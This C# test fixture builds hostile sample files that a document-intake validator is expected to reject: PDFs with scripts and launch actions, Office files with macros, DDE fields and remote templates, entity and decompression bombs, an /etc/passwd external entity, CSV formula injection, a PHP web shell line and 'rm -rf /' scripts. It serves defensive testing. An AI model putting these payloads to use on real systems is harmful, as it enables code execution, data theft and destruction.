using System.IO.Compression;
using System.Text;
using Hub.Register.Problems;
using Hub.SampleFiles;

namespace Hub.Rules.Tests.Intake.Files;

/// <summary>Files that must not be taken, each with the code that says why.</summary>
internal static class HostileFiles
{
    private const string WordMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
    private static readonly byte[] Ole = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504]];
    private static readonly string Bomb =
        $"<!DOCTYPE w [<!ENTITY a \"{new string('a', 1000)}\">"
        + string.Concat(Enumerable.Range(0, 9).Select(i =>
            $"<!ENTITY b{i} \"{string.Concat(Enumerable.Repeat(i == 0 ? "&a;" : $"&b{i - 1};", 10))}\">"))
        + "]><w>&b8;</w>";

    /// <summary>All of them, by name.</summary>
    public static IReadOnlyDictionary<string, (ProblemCode Code, byte[] Bytes)> All { get; } =
        Pdfs()
            .Concat(PdfsByTheirTables())
            .Concat(Packages())
            .Concat(PackagesByContent())
            .Concat(Pictures())
            .Concat(Texts())
            .Concat(Others())
            .Concat(Mails())
            .ToDictionary(f => f.Name, f => (f.Code, f.Bytes));

    private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> Pdfs()
    {
        var good = Pdf.WithText("A note.");
        yield return ("pdf encrypted", ProblemCode.F13, new Pdf().Page("").Trailer("/Encrypt << /Filter /Standard /V 2 >>").Bytes());
        yield return ("pdf encrypted, name escaped", ProblemCode.F13, new Pdf().Page("").Trailer("/#45ncrypt 9 0 R").Bytes());
        yield return ("pdf with JavaScript", ProblemCode.F11,
            new Pdf().Page("").Add("<< /S /JavaScript /JS (app.alert\\(1\\)) >>").Bytes());
        yield return ("pdf with JavaScript, name escaped", ProblemCode.F11, new Pdf().Page("").Add("<< /S /J#61vaScript >>").Bytes());
        yield return ("pdf that starts a program", ProblemCode.F11, new Pdf().Page("").Add("<</S/Launch/F(cmd.exe)>>").Bytes());
        yield return ("pdf with a file in it", ProblemCode.F11, new Pdf().Page("").AddStream("/Type /EmbeddedFile", [1, 2]).Bytes());
        yield return ("pdf with a script in an object stream", ProblemCode.F11,
            new Pdf().Page("").AddStream("/Type /ObjStm /N 1 /First 4", "7 0 << /S /JavaScript /JS (x) >>"u8.ToArray()).Bytes());
        yield return ("pdf with an XFA form", ProblemCode.F11, new Pdf().Page("").Add("<< /XFA 9 0 R >>").Bytes());
        yield return ("pdf packed twice", ProblemCode.F15, new Pdf().Page("").AddStream("", new byte[30_000_000], 2).Bytes());
        yield return ("pdf that unpacks to 300 MB", ProblemCode.F15, new Pdf().Page("").AddStream("", new byte[300_000_000]).Bytes());
        yield return ("pdf cut off", ProblemCode.F18, good[..^40]);
        yield return ("pdf of a header", ProblemCode.F18, "%PDF-1.7"u8.ToArray());
        yield return ("pdf with a stream that never ends", ProblemCode.F18, "%PDF-1.7\n1 0 obj << >> stream\nxx %%EOF"u8.ToArray());
        yield return ("pdf with a string that never ends", ProblemCode.F18, "%PDF-1.7\n1 0 obj ((((((\n%%EOF"u8.ToArray());
        yield return ("pdf with objects packed by a dictionary nobody has", ProblemCode.F18,
            [.. "%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n"u8, 0x78, 0xBB, 1, 2, 3, 4,
                .. "\nendstream endobj\n%%EOF"u8]);
        yield return ("pdf that is a zip too", ProblemCode.F16, [.. good, .. new Package().Part("a.class", "x").Bytes()]);
        yield return ("pdf with a zip in a comment", ProblemCode.F16,
            [.. good[..^6], .. "%"u8, .. new Package().Part("a", "x").Bytes(), .. "\n%%EOF\n"u8]);
        yield return ("pdf that is a page too", ProblemCode.F16, [.. "%PDF-1.7\n%<script>alert(1)</script>\n"u8, .. good]);
        yield return ("pdf with a program behind", ProblemCode.F16, [.. good, .. "MZ"u8, .. new byte[4000]]);
        yield return ("pdf behind other bytes", ProblemCode.F10, [1, 2, 3, .. good]);
    }

    private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> PdfsByTheirTables()
    {
        const string Script = "<< /S /JavaScript /JS <6170702e62656570283029> >>";
        Pdf Opening() => new Pdf().Page("").Catalog("/OpenAction 6 0 R");
        yield return ("pdf with a script in a comment", ProblemCode.F11, Opening().AddHidden("% ", Script, "").Bytes());
        yield return ("pdf with a script in a string", ProblemCode.F11, Opening().AddHidden("(", Script, ")").Bytes());
        yield return ("pdf with a script in the data of a stream", ProblemCode.F11,
            Opening().AddHidden("99 0 obj << /Length 90 >> stream\n", Script, "\nendstream endobj").Bytes());
        yield return ("pdf with a script in a predicted object stream", ProblemCode.F11, PackedPdf.ScriptInDifferences());
        yield return ("pdf that fetches when it opens", ProblemCode.F11,
            new Pdf().Page("").Catalog("/OpenAction << /S /URI /URI (https://collect.example/) >>").Bytes());
        yield return ("pdf that fetches behind a turn of the page", ProblemCode.F11,
            new Pdf().Page("").Catalog("/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://x.example/) >> >>").Bytes());
        yield return ("pdf that fetches when a page is shown", ProblemCode.F11,
            new Pdf().Page("").Catalog("/AA << /O << /S /URI /URI (https://collect.example/) >> >>").Bytes());
        foreach (var action in new[] { "SubmitForm", "ImportData", "GoToR", "GoToE", "Rendition", "Movie" })
            yield return ($"pdf with the action {action}", ProblemCode.F11,
                new Pdf().Page("").Add($"<< /S /{action} /F (//files.example/a) >>").Bytes());
        yield return ("pdf with a file in it that does not say its type", ProblemCode.F11,
            new Pdf().Page("").Add("<< /F (a.exe) /EF << /F 7 0 R >> >>").AddStream("", [1, 2]).Bytes());
    }

    private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> PackagesByContent()
    {
        const string Relationships = "word/_rels/document.xml.rels";
        Package Related(string type, string target) => Package.Docx("x").Part(Relationships, Package.Relations(type, target));
        yield return ("docx with macros under another name", ProblemCode.F11, Related("vbaProject", "colours.dat").Bytes());
        yield return ("docx with a page as a chunk", ProblemCode.F11,
            Related("aFChunk", "part.dat").Part("word/part.dat", "<html><script>1</script></html>").Bytes());
        yield return ("docx with a workbook to click on", ProblemCode.F11,
            Related("package", "embeddings/book.xlsx").Part("word/embeddings/book.xlsx", Package.Xlsx("a").Bytes()).Bytes());
        yield return ("docx with a chart of macros", ProblemCode.F11,
            Package.Docx("x").Part("word/charts/_rels/chart1.xml.rels", Package.Relations("package", "../embeddings/book.xlsx"))
                .Part("word/embeddings/book.xlsx", Package.Xlsx("a").Part("xl/vbaProject.bin", [1]).Bytes()).Bytes());
        foreach (var (name, field) in new[]
        {
            ("in CDATA", "<w:instrText><![CDATA[ DDEAUTO cmd \"/c\" ]]></w:instrText>"),
            (
                "behind a long one",
                $"<w:instrText> SEQ a {new string('b', 1_000_001)}</w:instrText>{Mark("end")}{Mark("begin")}<w:instrText> DDE cmd</w:instrText>"
            ),
            ("that another field writes", $"{Mark("begin")}<w:instrText> QUOTE 68 68 69 </w:instrText>{Mark("end")}"),
            ("that fetches a picture", "<w:instrText> INCLUDEPICTURE \"https://collect.example/p.png\" </w:instrText>"),
        })
            yield return (
                $"docx with a field {name}",
                ProblemCode.F11,
                Package
                    .Docx("x")
                    .Part("word/document.xml", $"""<w:document xmlns:w="urn:w">{Mark("begin")}{field}{Mark("end")}</w:document>""")
                    .Bytes());
        yield return (
            "docx whose document is called otherwise",
            ProblemCode.F11,
            Package
                .Docx("x")
                .Part("word/document.dat", """<w:document xmlns:w="urn:w"><w:instrText> DDE cmd</w:instrText></w:document>""")
                .Bytes());
        yield return (
            "odt locked with a password",
            ProblemCode.F13,
            Package
                .Odt("x")
                .Part("content.xml", [9, 200, 3, 77])
                .Part("META-INF/manifest.xml", """<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>""")
                .Bytes());
    }

    private static string Mark(string type) => $"""<w:fldChar w:fldCharType="{type}"/>""";

    private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> Packages()
    {
        var docx = Package.Docx("A note.").Bytes();
        yield return ("docx with macros", ProblemCode.F11, Package.Docx("x").Part("word/vbaProject.bin", [1]).Bytes());
        yield return ("docm called docx", ProblemCode.F11,
            Package.Docx("x").Types("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml").Bytes());
        yield return ("docx with the type of macros only", ProblemCode.F11,
            Package.Docx("x").Types("/word/document.xml", WordMain,
                """<Override PartName="/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>""").Bytes());
        yield return ("docx with an embedded object", ProblemCode.F11,
            Package.Docx("x").Part("word/embeddings/oleObject1.bin", [1]).Bytes());
        yield return ("docx with ActiveX", ProblemCode.F11, Package.Docx("x").Part("word/activeX/activeX1.xml", "<a/>").Bytes());
        yield return ("docx with a template elsewhere", ProblemCode.F11,
            Package.Docx("x").Part("word/_rels/settings.xml.rels",
                Package.Relations("attachedTemplate", "https://evil.example/t.dotm", "External")).Bytes());
        yield return ("docx with a picture elsewhere", ProblemCode.F11,
            Package.Docx("x").Part("word/_rels/document.xml.rels",
                Package.Relations("image", "https://evil.example/i.png", "External")).Bytes());
        yield return ("docx with a field that starts a program", ProblemCode.F11, Package.Docx("x").Part("word/document.xml",
            """<w:document xmlns:w="urn:w"><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd</w:instrText></w:document>""").Bytes());
        yield return ("xlsx with a link to a program", ProblemCode.F11,
            Package.Xlsx("x").Part("xl/externalLinks/externalLink1.xml", "<a/>").Bytes());
        yield return ("xlsx with old macros", ProblemCode.F11, Package.Xlsx("x").Part("xl/macrosheets/sheet1.xml", "<a/>").Bytes());
        yield return ("docx with a program as picture", ProblemCode.F12,
            Package.Docx("x").Part("word/media/image1.png", "MZ..........."u8.ToArray()).Bytes());
        yield return ("docx with an entity bomb", ProblemCode.F15, Package.Docx("x").Part("word/document.xml", Bomb).Bytes());
        yield return ("docx with an external entity", ProblemCode.F15,
            Package.Docx("x").Part("word/document.xml", "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><w>&x;</w>").Bytes());
        yield return ("docx whose types are a bomb", ProblemCode.F15, Package.Docx("x").Part("[Content_Types].xml", Bomb).Bytes());
        yield return ("docx with a part of 400 MB", ProblemCode.F15,
            Package.Docx("x").Part("word/media/big.bin", new byte[400_000_000]).Bytes());
        yield return ("docx with XML of 100 MB", ProblemCode.F15,
            Package.Docx("x").Part("word/big.xml", $"<a>{new string(' ', 100_000_000)}</a>").Bytes());
        yield return ("docx with overlapping parts", ProblemCode.F15, Overlapping(Package.Docx("x").Part("b.bin", "12345").Bytes()));
        yield return ("docx with 5000 parts", ProblemCode.F15,
            Enumerable.Range(0, 5000).Aggregate(Package.Docx("x"), (p, i) => p.Again($"p{i}", "")).Bytes());
        yield return ("docx with a password on its parts", ProblemCode.F13, Flagged(docx));
        yield return ("docx with the same part twice", ProblemCode.F16, Package.Docx("x").Again("word/document.xml", "<other/>").Bytes());
        yield return ("docx with a part outside", ProblemCode.F16, Package.Docx("x").Part("../../evil.xml", "<a/>").Bytes());
        yield return ("docx behind a page", ProblemCode.F10, [.. "<html><script>"u8, .. docx]);
        yield return ("docx with bytes behind", ProblemCode.F16, [.. docx, .. "<script>alert(1)</script>"u8]);
        yield return ("docx cut off", ProblemCode.F18, docx[..^30]);
        yield return ("docx with broken XML", ProblemCode.F18, Package.Docx("x").Part("word/document.xml", "<w><w>").Bytes());
        yield return ("pptx", ProblemCode.F10,
            Package.Docx("x").Types("/p.xml",
                "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml").Bytes());
        yield return ("odt with macros", ProblemCode.F11, Package.Odt("x").Part("Basic/Standard/script-lb.xml", "<a/>").Bytes());
        yield return ("odt with a script that listens", ProblemCode.F11,
            Package.Odt("x").Part("content.xml", """<a xmlns:script="urn:s"><script:event-listener/></a>""").Bytes());
        yield return ("odt with a password", ProblemCode.F13,
            Package.Odt("x").Part("META-INF/manifest.xml",
                """<m:manifest xmlns:m="urn:m"><m:encryption-data/></m:manifest>""").Bytes());
        yield return ("ods", ProblemCode.F10, new Package().Stored("mimetype", "application/vnd.oasis.opendocument.spreadsheet").Bytes());
        yield return ("zip", ProblemCode.F14, new Package().Part("note.pdf", "x").Bytes());
        yield return ("jar", ProblemCode.F14, new Package().Part("META-INF/MANIFEST.MF", "x").Part("a.class", "x").Bytes());
        yield return ("empty zip", ProblemCode.F14, new Package().Bytes());
        yield return ("epub", ProblemCode.F14, new Package().Stored("mimetype", "application/epub+zip").Bytes());
    }

    private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> Pictures()
    {
        var page = "<html><script>alert(1)</script></html>"u8.ToArray();
        var jar = new Package().Part("a.class", "x").Bytes();
        yield return ("png with a page behind", ProblemCode.F16, [.. Picture.Png(), .. page]);
        yield return ("png with a page in a comment", ProblemCode.F16, Picture.Png(text: [.. "c\0"u8, .. page]));
        yield return ("png with a zip behind", ProblemCode.F16, [.. Picture.Png(), .. jar]);
        yield return ("png of 2 G pixels", ProblemCode.F15, Picture.Png(50_000, 50_000));
        yield return ("png without size", ProblemCode.F18, Picture.Png(0, 0));
        yield return ("png cut off", ProblemCode.F18, Picture.Png()[..^6]);
        yield return ("jpeg with a page behind", ProblemCode.F16, [.. Picture.Jpeg(), .. page]);
        yield return ("jpeg with a page in a comment", ProblemCode.F16, Picture.Jpeg(comment: page));
        yield return ("jpeg that is a jar", ProblemCode.F16, [.. Picture.Jpeg(), .. jar]);
        yield return ("jpeg that is a pdf", ProblemCode.F16, Picture.Jpeg(comment: "%PDF-1.7"u8.ToArray()));
        yield return ("jpeg of 4 G pixels", ProblemCode.F15, Picture.Jpeg(65_000, 65_000));
        yield return ("jpeg cut off", ProblemCode.F18, Picture.Jpeg()[..^3]);
        yield return ("tiff that bites its tail", ProblemCode.F18, Picture.Tiff(next: 8));
        yield return ("tiff with pages elsewhere", ProblemCode.F18, Picture.Tiff(next: 4_000_000_000));
        yield return ("tiff of 4 G pixels", ProblemCode.F15, Picture.Tiff(width: 65_536, height: 65_536));
        yield return ("tiff with a page behind", ProblemCode.F16, [.. Picture.Tiff(), .. page]);
        yield return ("gif", ProblemCode.F10, [.. "GIF89a"u8, .. new byte[20]]);
        yield return ("svg", ProblemCode.F10, "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"u8.ToArray());
    }

    private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> Texts()
    {
        yield return ("html", ProblemCode.F10, "<!DOCTYPE html><p>"u8.ToArray());
        yield return ("html behind spaces", ProblemCode.F10, "\n\n   <HTML><script>"u8.ToArray());
        yield return ("html in UTF-16", ProblemCode.F10,
            [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("<html><script>x</script>")]);
        yield return ("xml with an entity bomb", ProblemCode.F15, Encoding.UTF8.GetBytes($"<?xml version=\"1.0\"?>{Bomb}"));
        yield return ("rtf", ProblemCode.F10, @"{\rtf1\ansi {\object\objocx}}"u8.ToArray());
        yield return ("php", ProblemCode.F12, "<?php system($_GET['c']);"u8.ToArray());
        yield return ("shell script", ProblemCode.F12, "#!/bin/sh\nrm -rf /\n"u8.ToArray());
        yield return ("batch", ProblemCode.F12, "@echo off\r\ndel c:\\\r\n"u8.ToArray());
        yield return ("shortcut to the web", ProblemCode.F12, "[InternetShortcut]\r\nURL=file://evil.example/x\r\n"u8.ToArray());
        yield return ("csv that starts a program", ProblemCode.F11, "a,b\n=cmd|'/c calc'!A0,2\n"u8.ToArray());
        yield return ("csv that starts a program, quoted", ProblemCode.F11, "a;b\n\"+cmd|'/c calc'!A0\";2\n"u8.ToArray());
        yield return (
            "csv that starts a program at the end of a piece",
            ProblemCode.F11,
            Encoding.ASCII.GetBytes($"a,b\n{new string('x', (64 * 1024) - 8)}\n=cmd|'/c calc'!A0\n"));
        foreach (
            var formula in new[]
            {
                "=WEBSERVICE(\"https://collect.example/\"&B1)",
                "+HYPERLINK(\"https://x.example\",\"a\")",
                "=DDE(\"cmd\";\"/c\")",
            })
            yield return ($"csv with {formula[1..5]}", ProblemCode.F11, Encoding.ASCII.GetBytes($"Name,Phone\r\nA,{formula}\r\n"));
        yield return ("json cut off", ProblemCode.F18, "{\"state\":\"XAA\",\"telepho"u8.ToArray());
        yield return ("json with two values for one name", ProblemCode.F16, "{\"a\":1,\"b\":{\"a\":1},\"a\":2}"u8.ToArray());
        yield return ("json too deep", ProblemCode.F15,
            Encoding.ASCII.GetBytes($"{string.Concat(Enumerable.Repeat("{\"a\":", 70))}1{new string('}', 70)}"));
        yield return ("text with a zip behind", ProblemCode.F10, [.. "A note.\n"u8, .. new Package().Part("a", "x").Bytes()]);
        yield return ("bytes", ProblemCode.F10, [.. Enumerable.Range(0, 5000).Select(i => (byte)(i * 31 % 251))]);
        yield return ("nothing", ProblemCode.F18, []);
    }

    private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> Others()
    {
        yield return ("exe", ProblemCode.F12, [.. "MZ"u8, .. new byte[100]]);
        yield return ("elf", ProblemCode.F12, [0x7F, .. "ELF"u8, .. new byte[60]]);
        yield return ("java class", ProblemCode.F12, [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52]);
        yield return ("windows shortcut", ProblemCode.F12, [0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0]);
        yield return ("old word", ProblemCode.F10, [.. Ole, .. Encoding.Unicode.GetBytes("WordDocument")]);
        yield return ("old excel with macros", ProblemCode.F11,
            [.. Ole, .. new byte[70_000], .. Encoding.Unicode.GetBytes("_VBA_PROJECT")]);
        yield return ("docx with a password", ProblemCode.F13,
            [.. Ole, .. new byte[65_530], .. Encoding.Unicode.GetBytes("EncryptedPackage")]);
        yield return ("rar", ProblemCode.F14, [.. "Rar!"u8, 0x1A, 7, 0]);
        yield return ("7z", ProblemCode.F14, [0x37, 0x7A, 0xBC, 0xAF, 0x27, 0x1C, 0]);
        yield return ("gzip", ProblemCode.F14, Gzip(new byte[100]));
        yield return ("tar", ProblemCode.F14, [.. new byte[257], .. "ustar"u8, .. new byte[250]]);
        yield return ("disc", ProblemCode.F14, [.. new byte[0x8001], .. "CD001"u8]);
        yield return ("cab", ProblemCode.F14, [.. "MSCF"u8, .. new byte[40]]);
    }

    private static IEnumerable<(string Name, ProblemCode Code, byte[] Bytes)> Mails()
    {
        yield return ("mail with a program", ProblemCode.F12, Mail("octet-stream", [.. "MZ"u8, .. new byte[50]]));
        yield return ("mail with a program by name", ProblemCode.F12, Mail("octet-stream; name=\"note.pdf.exe\"", "x"u8.ToArray()));
        yield return ("mail with an archive", ProblemCode.F14, Mail("zip", new Package().Part("a", "x").Bytes()));
        yield return (
            "mail with macros",
            ProblemCode.F11,
            Mail("octet-stream", Package.Docx("x").Part("word/vbaProject.bin", [1]).Bytes()));
        yield return (
            "mail in a mail in a mail in a mail",
            ProblemCode.F15,
            Enumerable.Range(0, 4).Aggregate("x"u8.ToArray(), (inner, _) => Mail("octet-stream", inner)));
        yield return (
            "mail with a program in quoted-printable",
            ProblemCode.F12,
            Mail("octet-stream", "=4D=5A=90=00=03=00=00=00"u8.ToArray(), "quoted-printable"));
        yield return ("mail with a program as it is", ProblemCode.F12, Mail("octet-stream", "#!/bin/sh\nexit"u8.ToArray(), "8bit"));
        yield return (
            "mail with a program behind a comment",
            ProblemCode.F12,
            Mail("octet-stream", Encoding.ASCII.GetBytes(Convert.ToBase64String([.. "MZ"u8, .. new byte[50]])), "(as usual) base64"));
        yield return (
            "mail with a program between other letters",
            ProblemCode.F12,
            Mail(
                "octet-stream",
                Encoding.ASCII.GetBytes($"TV\r\n!!\r\n{Convert.ToBase64String([.. "MZ"u8, .. new byte[50]])[2..]}"),
                "base64"));
        yield return (
            "mail with a program by a name in pieces",
            ProblemCode.F12,
            Mail("octet-stream; name*0=\"note.e\"; name*1=\"xe\"", "x"u8.ToArray()));
        yield return (
            "mail with broken base64",
            ProblemCode.F18,
            Encoding.ASCII.GetBytes(Head + "Content-Transfer-Encoding: base64\r\n\r\n%%%\r\n"));
    }

    private const string Head = "From: mission@state.example\r\nTo: hub@hub.example\r\nSubject: note\r\nMIME-Version: 1.0\r\n";

    /// <summary>A mail with one attachment.</summary>
    public static byte[] Mail(string type, byte[] attachment) => Encoding.ASCII.GetBytes(
        $"{Head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nPlease find a note.\r\n--b\r\n"
        + $"Content-Type: application/{type}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + $"{Convert.ToBase64String(attachment, Base64FormattingOptions.InsertLineBreaks)}\r\n--b--\r\n");

    /// <summary>The same, in an encoding that is already done.</summary>
    public static byte[] Mail(string type, byte[] body, string encoding) =>
    [
        .. Encoding.ASCII.GetBytes(
            $"{Head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: application/{type}\r\n"
            + $"Content-Transfer-Encoding: {encoding}\r\n\r\n"),
        .. body, .. "\r\n--b--\r\n"u8,
    ];

    // The directory's last entry points at the first one's bytes.
    private static byte[] Overlapping(byte[] zip)
    {
        var copy = zip.ToArray();
        var last = copy.AsSpan().LastIndexOf("PK\u0001\u0002"u8);
        copy.AsSpan(last + 42, 4).Clear();
        return copy;
    }

    private static byte[] Flagged(byte[] zip)
    {
        var copy = zip.ToArray();
        copy[copy.AsSpan().IndexOf("PK\u0001\u0002"u8) + 8] |= 1;
        return copy;
    }

    private static byte[] Gzip(byte[] content)
    {
        using var packed = new MemoryStream();
        using (var gzip = new GZipStream(packed, CompressionLevel.Fastest))
            gzip.Write(content);
        return packed.ToArray();
    }
}
